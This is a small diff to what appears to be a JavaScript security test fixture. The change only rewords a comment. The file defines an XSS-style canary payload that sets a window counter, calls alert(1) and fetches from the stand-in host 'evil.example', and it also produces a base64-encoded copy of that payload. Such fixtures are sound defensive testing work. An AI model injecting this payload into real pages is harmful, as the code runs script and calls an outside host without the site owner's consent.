@@ -1,4 +1,4 @@
-/** What every piece of hostile content tries to do: leave a mark, open a dialog, and call home. */
+/** Actions of every hostile piece: leave a mark, open a dialog, and send a request. */
 const js = "window.ran=(window.ran||0)+1;alert(1);fetch('http://evil.example/js')"
 const evil = 'http://evil.example'
 const encoded = Buffer.from(js).toString('base64')
